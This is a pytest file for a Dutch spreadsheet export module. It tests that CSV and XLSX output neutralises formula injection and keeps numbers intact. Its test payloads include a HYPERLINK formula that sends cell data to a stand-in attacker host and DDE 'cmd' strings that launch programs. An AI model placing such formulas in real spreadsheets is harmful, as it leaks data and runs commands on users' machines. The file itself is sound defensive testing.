"""Spreadsheet exports (wijkmonitor.sheets): formula injection neutralised by the OWASP rule,
numbers left numbers, Dutch CSV notation, and XLSX cells, formats and layout.

Expected bytes and cells are written out by hand from the rules (issue 17.5, 18.2)."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from wijkmonitor import sheets

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")'
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_dangerous_start_gets_a_quote(text):
    assert sheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Buurtteam", " =1+1", "'=1+1", "a=b", "", "1+1", "€ 5", "(1)"])
def test_harmless_text_is_left_alone(text):
    # the other side of the boundary: only the first character counts, and only = + - @ tab CR
    assert sheets.neutralise(text) == text


@pytest.mark.parametrize("text", ["-1", "-12,5", "-12.5", "+3", "-0,4", "-1e3", "-.5"])
def test_number_literals_as_text_are_not_mangled(text):
    assert sheets.neutralise(text) == text


@pytest.mark.parametrize("value", [-3.0, -1, 0, 2.5, None, True])
def test_non_text_values_pass_through(value):
    assert sheets.neutralise(value) is value


def _frame():
    return pd.DataFrame({"title": [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "Buurtteam"],
                         "value": [-1.5, 10.022825612987623, None, 3.0],
                         "period": [2012.0, 2016.0, 2020.0, None]})


def test_dutch_csv_bytes():
    body = sheets.csv_nl(_frame(), integer_columns=["period"])
    assert body.startswith(b"\xef\xbb\xbf")  # BOM
    text = body[3:].decode("utf-8")
    assert text.splitlines() == [
        "title;value;period",
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Klik\"\")\";-1,5;2012",
        "'+cmd|' /C calc'!A0;10,022825612987623;2016",
        "'@SUM(A1:A9);;2020",
        "Buurtteam;3,0;",
    ]


def test_plain_csv_bytes():
    text = sheets.csv_plain(_frame(), integer_columns=["period"]).decode("utf-8")
    assert not text.startswith("\ufeff")
    assert text.splitlines()[1:3] == [
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Klik\"\")\",-1.5,2012",
        "'+cmd|' /C calc'!A0,10.022825612987623,2016"]
    back = pd.read_csv(io.StringIO(text))
    assert back["value"].iloc[0] == -1.5  # a negative number stays a number


def test_xlsx_cells_formats_and_layout():
    df = _frame().assign(indicator=["a", "b", "a", "b"])
    per_row = df["indicator"].map({"a": 1, "b": 0})
    body = sheets.xlsx(df, sheet="gegevens", decimals={"value": per_row}, integer_columns=["period"],
                       extra_sheets=[("bronnen en regels", pd.DataFrame({"soort": ["bron"],
                                                                         "tekst": ["=evil()"]}))])
    wb = openpyxl.load_workbook(io.BytesIO(body))
    assert wb.sheetnames == ["gegevens", "bronnen en regels"]
    ws = wb["gegevens"]
    assert [c.value for c in ws[1]] == ["title", "value", "period", "indicator"]
    title = ws["A2"]
    assert title.data_type == "s" and title.value == "'" + HYPERLINK
    assert (ws["A3"].data_type, ws["A3"].value) == ("s", "'+cmd|' /C calc'!A0")
    assert (ws["A4"].data_type, ws["A4"].value) == ("s", "'@SUM(A1:A9)")
    # numbers stay numbers, with the indicator's decimals
    assert (ws["B2"].data_type, ws["B2"].value, ws["B2"].number_format) == ("n", -1.5, "#,##0.0")
    assert ws["B3"].value == pytest.approx(10.022825612987623, rel=1e-14)  # Excel keeps 15 digits
    assert ws["B3"].number_format == "#,##0"
    assert ws["B4"].value is None  # not shown: empty, never 0
    # years are whole numbers
    assert ws["C2"].value == 2012 and isinstance(ws["C2"].value, int) and ws["C2"].number_format == "0"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:D5"
    # no formula anywhere in the workbook
    for sheet in wb.worksheets:
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert wb["bronnen en regels"]["B2"].value == "'=evil()"


def test_number_format_by_decimals():
    assert [sheets.number_format(d) for d in (None, 0, 1, 2)] == ["#,##0", "#,##0", "#,##0.0", "#,##0.00"]
